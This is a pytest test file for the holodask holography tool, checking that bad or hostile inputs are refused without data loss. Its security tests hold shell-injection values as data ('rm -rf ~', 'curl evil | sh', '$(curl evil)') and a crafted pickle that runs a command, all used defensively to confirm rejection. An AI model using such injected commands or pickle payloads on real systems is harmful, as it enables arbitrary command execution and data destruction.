"""Data safety and hostile input (issue 20): nothing a user owns is lost, every bad input
gets one clear message (naming the file or parameter), exit code 1, no traceback.

Most runs go through ``holodask.cli.main`` in this process; those that need a signal, a
memory limit or a second process run ``python -m holodask`` as a subprocess.
"""

from __future__ import annotations

import hashlib
import json
import os
import resource
import signal
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import h5py
import numpy as np
import pytest

from holodask.cli import main
from holodask.errors import DataError, InputFileError, ParameterError
from holodask.io.holo_hdf5 import TEMP_SUFFIX, HoloOutputFile
from holodask.params import parse_parameter_text
from simulated import simulated_params

PROJECT_ROOT = Path(__file__).resolve().parents[1]
#: holodask.MAX_FRAMES and MAX_PARAMETER_BYTES (imported where used: tests of the
#: command line also run against code without the module)
MAX_FRAMES = 100_000
MAX_PARAMETER_BYTES = 16 * 2**20
LOCK_SUFFIX = ".holodask-lock"


# ----------------------------------------------------------------------------- helpers


@pytest.fixture()
def series(tmp_path):
    """Three simulated 128 px holograms and an empty one, with their parameters (dict)."""
    _, params = simulated_params(tmp_path, {"n_frames": 3, "size_px": 128, "object_size_px": 64, "seed": 1})
    return tmp_path, params


def _write_params(folder: Path, params: dict, name: str = "params.json") -> Path:
    path = folder / name
    path.write_text(json.dumps(params))
    return path


def _digests(folder: Path) -> dict[str, str]:
    """sha256 of every file in ``folder`` (the inputs, the parameter files, earlier outputs)."""
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()}


def _leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.endswith((TEMP_SUFFIX, LOCK_SUFFIX))]


def _cli(capsys, *argv) -> tuple[int, str]:
    code = main([str(a) for a in argv])
    err = capsys.readouterr().err
    return code, err


def _assert_refused(code: int, err: str, *names: str) -> None:
    assert code == 1, err
    assert err.startswith("holodask: error: "), err
    assert "Traceback" not in err
    for name in names:
        assert str(name) in err, f"{name!r} not in {err!r}"


def _subprocess(argv, *, cwd, memory_bytes=None, timeout=120, **kwargs):
    """``python -m holodask ARGV`` (a memory limit where asked: a huge allocation fails fast)."""
    def limit():
        if memory_bytes:
            resource.setrlimit(resource.RLIMIT_AS, (memory_bytes, memory_bytes))

    env = dict(os.environ, PYTHONPATH=str(PROJECT_ROOT))
    return subprocess.run([sys.executable, "-m", "holodask", *map(str, argv)], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=timeout, preexec_fn=limit, **kwargs)


def _result_values(path: Path, prefix: str) -> dict:
    """Values and attributes of everything under ``prefix`` (to compare objects, not bytes)."""
    found = {}
    with h5py.File(path, "r") as f:
        def visit(name, obj):
            if not name.startswith(prefix):
                return
            attrs = {k: np.asarray(v).tolist() for k, v in obj.attrs.items()}
            value = np.asarray(obj[()]).tobytes() if isinstance(obj, h5py.Dataset) else None
            found[name] = (value, json.dumps(attrs, sort_keys=True, default=str))
        f.visititems(visit)
    return found


# ----------------------------------------------------------------------------- 1: outputs that are inputs


@pytest.mark.parametrize("how", ["same name", "symbolic link", "hard link"])
def test_output_name_that_is_an_input_is_refused(series, capsys, how):
    folder, params = series
    target = folder / "object_001.hdf5"
    if how == "same name":
        output = target.name
    else:
        output = "alias.hdf5"
        (os.symlink if how == "symbolic link" else os.link)(target, folder / output)
    before = _digests(folder)
    code, err = _cli(capsys, "run", _write_params(folder, dict(params, output_name=output), "p.json"))
    _assert_refused(code, err, "output_name", "object_001.hdf5")
    before["p.json"] = _digests(folder)["p.json"]
    assert _digests(folder) == before
    assert _leftovers(folder) == []


# ----------------------------------------------------------------------------- 2: output open elsewhere

HOLD_OPEN = """
import sys, h5py
f = h5py.File(sys.argv[1], "r+")
print("open", flush=True)
sys.stdin.read()
f.close()
"""


@pytest.mark.parametrize("file_locking", ["TRUE", "FALSE"])
def test_output_open_for_writing_in_another_process_is_refused(series, capsys, file_locking):
    folder, params = series
    path = _write_params(folder, params)
    assert main(["run", str(path)]) == 0
    output = folder / params["output_name"]
    kept = _result_values(output, "")
    env = dict(os.environ, HDF5_USE_FILE_LOCKING=file_locking)  # FALSE: no lock, found through /proc
    holder = subprocess.Popen([sys.executable, "-c", HOLD_OPEN, str(output)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True, env=env)
    try:
        assert holder.stdout.readline().strip() == "open"
        code, err = _cli(capsys, "run", path)
        _assert_refused(code, err, str(output), "open for writing")
    finally:
        holder.communicate("", timeout=30)
    assert _result_values(output, "") == kept
    assert _leftovers(folder) == []


# ----------------------------------------------------------------------------- 3: prefixes


def test_writing_a_prefix_replaces_it_whole_and_leaves_other_prefixes(series, capsys):
    from holodask.results import open_result

    folder, params = series
    run = lambda name, **changes: main(["run", str(_write_params(folder, dict(params, **changes), name))])  # noqa: E731
    assert run("a.json", output_prefix="a/", output_series=True, output_aligned=True) == 0
    assert run("b.json", output_prefix="b_", output_series=True) == 0
    assert run("root.json", output_prefix="") == 0
    output = folder / params["output_name"]
    others = {prefix: _result_values(output, prefix) for prefix in ("b_", "data", "empty", "variance")}
    # rewriting a/ without the series must leave no stale series (or aligned ROIs) behind
    assert run("a2.json", output_prefix="a/", adjust_tilt=True) == 0
    with h5py.File(output, "r") as f:
        assert set(f["a"]) == {"data", "empty", "variance"}
        assert "b_series" in f and "b_data" in f and "data" in f
        assert '"adjust_tilt": true' in f["a/data"].attrs["holoaverage_param"]
    for prefix, values in others.items():
        assert _result_values(output, prefix) == values, prefix
    with open_result(output, "a/") as result:
        assert "series" not in result and result["data"].shape == (64, 64)
    assert _leftovers(folder) == []


def test_two_writers_of_one_file_with_different_prefixes_keep_both(tmp_path):
    path = tmp_path / "shared.hdf5"
    first = HoloOutputFile(path, prefix="a/")
    second = HoloOutputFile(path, prefix="b/")
    first.open()
    second.open()
    first.write_dataset("data", np.ones((4, 4), np.complex64))
    second.write_dataset("data", np.full((4, 4), 2, np.complex64))
    second.commit()
    first.commit()  # merges into what the second wrote meanwhile
    with h5py.File(path, "r") as f:
        assert set(f) == {"a", "b"}
        np.testing.assert_array_equal(f["a/data"][()], np.ones((4, 4)))
        np.testing.assert_array_equal(f["b/data"][()], np.full((4, 4), 2))
    assert _leftovers(tmp_path) == []


def test_a_second_writer_waits_for_the_lock_or_says_who_holds_it(tmp_path, monkeypatch):
    from holodask.io import safe_write

    path = tmp_path / "shared.hdf5"
    lock = safe_write._FileLock(path, "output_name")
    lock.acquire()
    released = threading.Timer(0.5, lock.release)
    released.start()
    try:
        with HoloOutputFile(path, prefix="a/") as out:  # commits once the lock is free
            out.write_dataset("data", np.ones((2, 2), np.complex64))
    finally:
        released.join()
    assert h5py.File(path, "r")["a/data"].shape == (2, 2)
    lock.acquire()
    try:
        monkeypatch.setattr(safe_write, "LOCK_TIMEOUT_S", 0.2)
        with pytest.raises(InputFileError, match="being written by another holodask process"):
            with HoloOutputFile(path, prefix="b/") as out:
                out.write_dataset("data", np.ones((2, 2), np.complex64))
    finally:
        lock.release()
    with h5py.File(path, "r") as f:
        assert set(f) == {"a"}
    assert _leftovers(tmp_path) == []


# ----------------------------------------------------------------------------- 4: holograms without signal


def _replace_hologram(folder: Path, name: str, data) -> None:
    with h5py.File(folder / name, "r+") as f:
        del f["hologram"]
        f["hologram"] = data


@pytest.mark.parametrize("what, data, message", [
    ("all zero", lambda shape, dtype: np.zeros(shape, dtype), "every pixel is 0"),
    ("constant", lambda shape, dtype: np.full(shape, 37, dtype), "every pixel is 37"),
    ("noise without fringes",
     lambda shape, dtype: np.random.default_rng(3).poisson(100, shape).astype(dtype), "no fringes"),
])
def test_frames_without_signal_or_fringes_are_refused_naming_the_file(series, capsys, what, data, message):
    folder, params = series
    name = "object_000.hdf5" if what == "noise without fringes" else "object_001.hdf5"
    with h5py.File(folder / name, "r") as f:
        shape, dtype = f["hologram"].shape, f["hologram"].dtype
    _replace_hologram(folder, name, data(shape, dtype))
    before = _digests(folder)
    code, err = _cli(capsys, "run", _write_params(folder, params, "p.json"))
    _assert_refused(code, err, name, message)
    assert not (folder / params["output_name"]).exists()
    before["p.json"] = _digests(folder)["p.json"]
    assert _digests(folder) == before


def test_empty_hologram_without_fringes_is_refused(series, capsys):
    folder, params = series
    with h5py.File(folder / "empty_000.hdf5", "r") as f:
        shape = f["hologram"].shape
    _replace_hologram(folder, "empty_000.hdf5", np.random.default_rng(4).normal(50, 5, shape).astype(np.float32))
    code, err = _cli(capsys, "run", _write_params(folder, params))
    _assert_refused(code, err, "empty_000.hdf5", "no fringes")


def test_fringe_contrast_separates_holograms_from_noise():
    from holodask import checks

    rng = np.random.default_rng(0)
    y, x = np.mgrid[:256, :256]
    hologram = rng.poisson(100 * (1 + 0.2 * np.cos(2 * np.pi * (x * 40 + y * 20) / 256))).astype(np.float32)
    assert checks.sideband_contrast(hologram, (128 + 40, 128 + 20)) > 30
    noise = rng.poisson(100, (256, 256)).astype(np.float32)
    assert checks.sideband_contrast(noise, (128 + 40, 128 + 20)) < checks.FRINGE_CONTRAST_MINIMUM
    with pytest.raises(DataError, match="frame.hdf5: no fringes at sideband_pos"):
        checks.check_fringes(noise, (168, 148), "frame.hdf5")
    checks.check_fringes(hologram, (168, 148), "frame.hdf5")


# ----------------------------------------------------------------------------- 5: ranges


@pytest.mark.parametrize("change, name", [
    ({"cut_off": 1e308}, "cut_off"),
    ({"cut_off2": [[1e308, 0], [0, 1e308]]}, "cut_off2"),
    ({"object_size": 10**9}, "object_size"),
    ({"sampling": 1e-300}, "sampling"),
    ({"object_last": 10**12}, "object_last"),
    ({"object_first": 0, "object_last": 2 * MAX_FRAMES}, "object_last"),
    ({"object_names": ["object_000.hdf5?dataset=hologram"] * (MAX_FRAMES + 1)}, "object_names"),
])
def test_out_of_range_parameters_fail_at_the_boundary(series, change, name):
    folder, params = series
    params = dict(params, **change)
    if "cut_off2" in change:
        params.pop("cut_off")
    path = _write_params(folder, params, "p.json")
    # a subprocess with a memory limit: an unbounded allocation ends there, not here
    done = _subprocess(["run", path], cwd=folder, memory_bytes=3 * 2**30)
    _assert_refused(done.returncode, done.stderr, f"parameter '{name}")
    assert not (folder / params["output_name"]).exists()


# ----------------------------------------------------------------------------- 6: pixel types and NaN


def test_complex_holograms_are_refused_naming_the_file(series, capsys):
    folder, params = series
    for k in range(3):
        name = f"object_{k:03d}.hdf5"
        with h5py.File(folder / name, "r") as f:
            data = f["hologram"][()]
        _replace_hologram(folder, name, data.astype(np.complex64))
    code, err = _cli(capsys, "run", _write_params(folder, params))
    _assert_refused(code, err, "object_000.hdf5", "complex")
    assert not (folder / params["output_name"]).exists()


def test_nan_pixels_are_refused_naming_file_and_count(series, capsys):
    folder, params = series
    with h5py.File(folder / "object_002.hdf5", "r") as f:
        data = f["hologram"][()].astype(np.float32)
    data[3, 4], data[10, 10], data[20, 1] = np.nan, np.inf, -np.inf
    _replace_hologram(folder, "object_002.hdf5", data)
    code, err = _cli(capsys, "run", _write_params(folder, params))
    _assert_refused(code, err, "object_002.hdf5", f"3 of {data.size} pixels are NaN or infinite")
    assert not (folder / params["output_name"]).exists()


# ----------------------------------------------------------------------------- 7: output names


@pytest.mark.parametrize("name", ["newdir/", "newdir\\", ".", "existing"])
def test_output_name_naming_a_folder_is_an_error(series, capsys, name):
    folder, params = series
    (folder / "existing").mkdir()
    code, err = _cli(capsys, "run", _write_params(folder, dict(params, output_name=name), "p.json"))
    _assert_refused(code, err, "output_name", "folder")
    assert not (folder / "newdir").exists()
    assert sorted(p.name for p in (folder / "existing").iterdir()) == []


# ----------------------------------------------------------------------------- 8: duplicate keys


@pytest.mark.parametrize("text", [
    '{"cut_off": 0.1, "roi": [0, 0, 8, 8], "cut_off": 0.2}',
    '{"cut_off": 0.1, // a comment\n "cut_off": 0.2,}',
])
def test_a_key_given_twice_is_named(text):
    with pytest.raises(ParameterError, match=r"parameter 'cut_off' is given twice \(0\.1, then 0\.2\)"):
        parse_parameter_text(text, "p.json")


def test_a_key_given_twice_in_a_file_stops_the_run(series, capsys):
    folder, params = series
    path = folder / "p.json"
    path.write_text(json.dumps(params)[:-1] + ', "object_size": 32}')
    code, err = _cli(capsys, "run", path)
    _assert_refused(code, err, "p.json", "'object_size' is given twice")


# ----------------------------------------------------------------------------- 9: SIGTERM


def test_sigterm_is_handled_like_ctrl_c(tmp_path):
    _, params = simulated_params(tmp_path, {"n_frames": 24, "size_px": 384, "object_size_px": 128, "seed": 2})
    path = _write_params(tmp_path, dict(params, output_series=True))
    assert _subprocess(["run", path], cwd=tmp_path).returncode == 0
    before = _digests(tmp_path)
    env = dict(os.environ, PYTHONPATH=str(PROJECT_ROOT))
    proc = subprocess.Popen([sys.executable, "-m", "holodask", "run", str(path)], cwd=tmp_path, env=env,
                            stderr=subprocess.PIPE, text=True)
    try:
        while not any(p.name.endswith(TEMP_SUFFIX) for p in tmp_path.iterdir()):  # the write has begun
            assert proc.poll() is None, proc.stderr.read()
            time.sleep(0.002)
        proc.send_signal(signal.SIGSTOP)  # stopped: the signal arrives while the run is still on
        proc.send_signal(signal.SIGTERM)
        proc.send_signal(signal.SIGCONT)
        err = proc.communicate(timeout=120)[1]
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert "stopped by SIGTERM" in err and "Traceback" not in err
    for _ in range(200):  # the temporary file is gone (removed by the process itself)
        if not _leftovers(tmp_path):
            break
        time.sleep(0.01)
    assert _leftovers(tmp_path) == []
    assert _digests(tmp_path) == before


# ----------------------------------------------------------------------------- 10: every output checked


def test_output_qpimage_may_not_overwrite_the_parameter_file_an_input_or_a_text_file(series, capsys):
    folder, params = series
    (folder / "notes.txt").write_text("my notes")
    before = _digests(folder)
    for target, expected in (("p.json", "parameter file"), ("object_000.hdf5", "object_000.hdf5"),
                             ("notes.txt", "is not an HDF5 file")):
        path = _write_params(folder, dict(params, output_qpimage=target), "p.json")
        code, err = _cli(capsys, "run", path)
        _assert_refused(code, err, "output_qpimage", expected)
        assert not (folder / params["output_name"]).exists()
    before["p.json"] = _digests(folder)["p.json"]
    assert _digests(folder) == before


def test_export_onto_its_own_result_is_refused(series, capsys):
    folder, params = series
    assert main(["run", str(_write_params(folder, params))]) == 0
    result = folder / params["output_name"]
    before = _digests(folder)
    code, err = _cli(capsys, "export", result, "--qpimage", result)
    _assert_refused(code, err, "--qpimage", str(result))
    code, err = _cli(capsys, "show", result, "--png", result)
    _assert_refused(code, err, "--png", str(result))
    assert _digests(folder) == before


def test_report_may_not_overwrite_an_input(series, capsys):
    folder, params = series
    path = _write_params(folder, params)
    before = _digests(folder)
    code, err = _cli(capsys, "run", path, "--report", folder / "object_000.hdf5")
    _assert_refused(code, err, "--report", "object_000.hdf5")
    code, err = _cli(capsys, "run", path, "--report", path)
    _assert_refused(code, err, "--report", str(path))
    assert _digests(folder) == before
    assert not (folder / params["output_name"]).exists()


def test_stats_and_convert_refuse_inputs_and_foreign_files(series, capsys):
    folder, params = series
    spec = f"{folder / 'object_000.hdf5'}?dataset=hologram"
    (folder / "other.h5").write_bytes((folder / "object_001.hdf5").read_bytes())
    (folder / "notes.npz").write_text("not a zip")
    before = _digests(folder)
    code, err = _cli(capsys, "convert", spec, folder / "object_000.hdf5", "--path", "images")
    _assert_refused(code, err, "object_000.hdf5")
    code, err = _cli(capsys, "convert", spec, folder / "notes.npz", "--threshold", "1")
    _assert_refused(code, err, "notes.npz", "not an .npz")
    code, err = _cli(capsys, "stats", spec, "-o", folder / "other.h5")
    _assert_refused(code, err, "other.h5", "not a holodask stats")
    assert _digests(folder) == before


def test_symlinked_output_is_written_through_with_a_warning_and_stays_a_link(series, capsys):
    folder, params = series
    (folder / "results").mkdir()
    target = folder / "results" / "real.hdf5"
    with h5py.File(target, "w") as f:
        f["kept"] = np.arange(3)
    link = folder / params["output_name"]
    link.symlink_to(target)
    with pytest.warns(UserWarning, match="is a symbolic link; writing its target"):
        with HoloOutputFile(link) as out:
            out.write_dataset("data", np.ones((2, 2), np.complex64))
    assert link.is_symlink() and os.readlink(link) == str(target)
    with h5py.File(target, "r") as f:
        assert f["data"].shape == (2, 2) and list(f["kept"][()]) == [0, 1, 2]
    dangling = folder / "dangling.hdf5"
    dangling.symlink_to(folder / "nowhere" / "x.hdf5")
    code, err = _cli(capsys, "run", _write_params(folder, dict(params, output_name="dangling.hdf5"), "p.json"))
    _assert_refused(code, err, "dangling.hdf5", "symbolic link")
    assert dangling.is_symlink() and not (folder / "nowhere").exists()


def test_file_modes_follow_the_umask_and_a_replaced_file_keeps_its_mode(series, capsys):
    folder, params = series
    spec = f"{folder / 'object_000.hdf5'}?dataset=hologram"
    old = os.umask(0o027)
    try:
        assert main(["stats", spec, "-o", str(folder / "spots.h5")]) == 0
        assert main(["run", str(_write_params(folder, params))]) == 0
    finally:
        os.umask(old)
    assert os.stat(folder / "spots.h5").st_mode & 0o777 == 0o640
    output = folder / params["output_name"]
    assert os.stat(output).st_mode & 0o777 == 0o640
    os.chmod(output, 0o600)
    assert main(["run", str(_write_params(folder, dict(params, output_prefix="again/")))]) == 0
    assert os.stat(output).st_mode & 0o777 == 0o600


def test_read_only_output_is_refused_naming_the_output(series, capsys):
    folder, params = series
    path = _write_params(folder, params)
    assert main(["run", str(path)]) == 0
    output = folder / params["output_name"]
    os.chmod(output, 0o444)
    before = _digests(folder)
    code, err = _cli(capsys, "run", path)
    _assert_refused(code, err, f"output file {output} is read-only")
    assert TEMP_SUFFIX not in err
    assert _digests(folder) == before


# ----------------------------------------------------------------------------- 11: security


def test_local_cluster_talks_tls_on_localhost_only(tmp_path):
    from distributed import Client

    from holodask.cluster import compute_context

    with compute_context(cluster="local", workers=1, threads_per_worker=1, quiet=True) as client:
        assert client.scheduler.address.startswith("tls://127.0.0.1:")
        assert client.submit(sum, [1, 2]).result() == 3
        bound = [s.getsockname()[0] for s in client.cluster.scheduler.http_server._sockets.values()]
        assert bound and set(bound) == {"127.0.0.1"}
        plain = client.scheduler.address.replace("tls://", "tcp://")
        with pytest.raises(Exception):  # noqa: B017 - no credentials, no connection
            Client(plain, timeout="2s").close()


def test_job_clusters_use_tls_and_a_local_dashboard(tmp_path):
    pytest.importorskip("dask_jobqueue")
    from holodask.cluster import make_job_cluster

    config = {"cores": 1, "memory": "1GB", "shared_temp_directory": str(tmp_path / "tls")}
    cluster = make_job_cluster("slurm", config)
    try:
        script = cluster.job_script()
        options = cluster.scheduler_spec["options"]
    finally:
        cluster.close()
    assert "--protocol tls://" in script and "--tls-ca-file" in script and "--tls-key" in script
    assert options["dashboard_address"] == "127.0.0.1:8787"
    assert options["security"] is not None
    assert os.stat(tmp_path / "tls").st_mode & 0o077 == 0


@pytest.mark.parametrize("key, value, message", [
    ("queue", "normal\nrm -rf ~", "line break"),
    ("job_script_prologue", ["module load x\ncurl evil | sh"], "line break"),
    ("account", "proj --wrap=evil", "one word"),
    ("interface", "$(curl evil)", "shell syntax"),
])
def test_cluster_config_values_cannot_inject_shell_commands(key, value, message):
    from holodask.cluster import check_job_script_values

    with pytest.raises(ParameterError, match=f"{key}.*{message}"):
        check_job_script_values({"cores": 1, key: value})


def test_cluster_config_paths_with_spaces_are_quoted():
    from holodask.cluster import check_job_script_values

    checked = check_job_script_values({"local_directory": "/scratch/my data", "python": "/opt/py/bin/python"})
    assert checked["local_directory"] == "'/scratch/my data'"
    assert checked["python"] == "/opt/py/bin/python"
    assert check_job_script_values({"local_directory": "$TMPDIR"})["local_directory"] == "$TMPDIR"


def test_fftw_plan_cache_never_unpickles(tmp_path):
    from holodask import fft

    if fft.backend() != "pyfftw":
        pytest.skip("measured plans need pyFFTW")
    folder = tmp_path / "plans"
    folder.mkdir(mode=0o700)
    marker = tmp_path / "pwned"
    key = ("fft2", (24, 20), np.dtype(np.complex64).str, None, 1, fft._planner_effort, None, "in place")
    payload = b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR."  # a pickle that runs a command
    stem = fft._wisdom_name(key).rsplit(".", 1)[0]
    for suffix in (".pickle", ".wisdom"):
        (folder / (stem + suffix)).write_bytes(payload)
    script = textwrap.dedent(f"""
        import numpy as np
        from holodask import fft
        a = np.ones((24, 20), np.complex64)
        print(abs(fft.fft2(a) - np.fft.fft2(a)).max())
    """)
    env = dict(os.environ, HOLODASK_FFTW_WISDOM=str(folder), PYTHONPATH=str(PROJECT_ROOT))
    done = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert float(done.stdout) < 1e-3
    assert not marker.exists()


def test_plan_files_in_a_folder_others_can_write_are_ignored(tmp_path):
    from holodask import fft

    info = os.stat(tmp_path)
    assert fft._trusted(info)
    os.chmod(tmp_path, 0o777)
    assert not fft._trusted(os.stat(tmp_path))
    wisdom = (b"(fftw-3.3.10 fftw_wisdom)", b"(fftw-3.3.10 fftwf_wisdom)", b"")
    assert fft._decode_wisdom(fft._encode_wisdom(wisdom)) == wisdom
    assert fft._decode_wisdom(b"\x80\x04K\x01.") is None


def test_a_temporary_file_replaced_by_someone_else_is_not_moved_into_place(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("someone else's file")
    path = tmp_path / "out.hdf5"
    with pytest.raises(InputFileError, match="replaced by someone else"):
        with HoloOutputFile(path) as out:
            out.write_dataset("data", np.ones((2, 2), np.complex64))
            temp = out._output.temp_path
            temp.unlink()  # what another user of a shared folder could do
            temp.symlink_to(victim)
    assert not path.exists() and not path.is_symlink()
    assert victim.read_text() == "someone else's file"


def test_temporary_files_are_created_exclusively(tmp_path, monkeypatch):
    from holodask.io import safe_write

    victim = tmp_path / "victim.txt"
    victim.write_text("someone else's file")
    names = iter(["fixed", "fixed", "other"])
    monkeypatch.setattr(safe_write.secrets, "token_hex", lambda n: next(names))
    (tmp_path / f".out.hdf5.fixed{TEMP_SUFFIX}").symlink_to(victim)  # planted in advance
    with HoloOutputFile(tmp_path / "out.hdf5") as out:
        out.write_dataset("data", np.ones((2, 2), np.complex64))
    assert victim.read_text() == "someone else's file"
    assert h5py.File(tmp_path / "out.hdf5", "r")["data"].shape == (2, 2)


# ----------------------------------------------------------------------------- 12: resources


def test_info_fft_on_a_huge_declared_image_is_bounded(tmp_path):
    path = tmp_path / "huge.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("img", shape=(30000, 30000), dtype=np.float32)  # 1.4 kB on disk
    assert path.stat().st_size < 10_000
    done = _subprocess(["info", "--fft", f"{path}?dataset=img"], cwd=tmp_path, memory_bytes=2 * 2**30)
    _assert_refused(done.returncode, done.stderr, str(path))


def test_info_fft_on_a_large_frame_reads_the_centre(tmp_path, monkeypatch):
    from holodask.commands import info
    from holodask.io.registry import open_source
    from holodask.sideband import find_sideband

    y, x = np.mgrid[:400, :360]
    image = (100 + 30 * np.cos(2 * np.pi * (x * 70 / 360 + y * 50 / 400))).astype(np.float32)
    with h5py.File(tmp_path / "big.h5", "w") as f:
        f["img"] = image
    source = open_source(f"{tmp_path / 'big.h5'}?dataset=img")
    full = find_sideband(image)
    monkeypatch.setattr(info, "MAX_FFT_SIDE", 128)
    read = []
    monkeypatch.setattr(type(source), "read_frame", lambda self, i: read.append(i) or image)
    found, note = info.sideband_of(source, 0)
    (cx, cy), (fx, fy) = found.position, full.position
    assert read == [] and "central 128 x 128" in note
    assert abs(cx - fx) < 2.5 and abs(cy - fy) < 2.5
    assert found.shape == (400, 360) and found.confidence > 0.8


def test_a_declared_million_frames_are_refused_before_the_graph(tmp_path, capsys):
    _, params = simulated_params(tmp_path, {"n_frames": 1, "size_px": 64, "object_size_px": 32, "seed": 1})
    with h5py.File(tmp_path / "stack.h5", "w") as f:
        f.create_dataset("images", shape=(10**6, 64, 64), dtype=np.float32, chunks=(1, 64, 64))
    for key in ("object_first", "object_last"):
        params.pop(key, None)
    path = _write_params(tmp_path, dict(params, object_names="stack.h5?dataset=images"), "p.json")
    done = _subprocess(["run", path], cwd=tmp_path, memory_bytes=3 * 2**30)
    _assert_refused(done.returncode, done.stderr, "stack.h5", "1000000 frames")


def test_deeply_nested_parameter_text_gets_a_clear_message():
    text = '{"cut_off": ' + "[" * 60 + "1" + "]" * 60 + "}"
    with pytest.raises(ParameterError, match="nested too deeply"):
        parse_parameter_text(text, "p.json")
    with pytest.raises(ParameterError, match="nested too deeply"):
        parse_parameter_text(text.replace('{"cut_off"', '{// json5 syntax\n cut_off'), "p.json")


def test_json_with_comments_and_trailing_commas_skips_the_slow_parser(monkeypatch):
    import json5

    def slow(*args, **kwargs):
        raise AssertionError("the pure-Python JSON5 parser was used")

    monkeypatch.setattr(json5, "loads", slow)
    names = [f"object_{k:05d}.dm3" for k in range(20000)]
    text = '{ // a comment\n "object_names": ' + json.dumps(names)[:-1] + ',], /* block */ "cut_off": 0.1,}'
    assert parse_parameter_text(text)["object_names"] == names


def test_a_huge_parameter_file_is_refused(tmp_path):
    path = tmp_path / "huge.json"
    with open(path, "w") as file:
        file.write('{"a": [')
        file.write("1, " * (MAX_PARAMETER_BYTES // 3))
        file.write("1]}")
    done = _subprocess(["run", path], cwd=tmp_path, memory_bytes=3 * 2**30)
    _assert_refused(done.returncode, done.stderr, str(path), "larger than")


def test_a_truncated_dm_file_says_so(dm_dir, tmp_path, capsys):
    data = (dm_dir / "2D_test-1.dm3").read_bytes()
    for size in (100, len(data) - 10):
        broken = tmp_path / f"cut{size}.dm3"
        broken.write_bytes(data[:size])
        code, err = _cli(capsys, "info", broken)
        _assert_refused(code, err, str(broken), "truncated or corrupt")
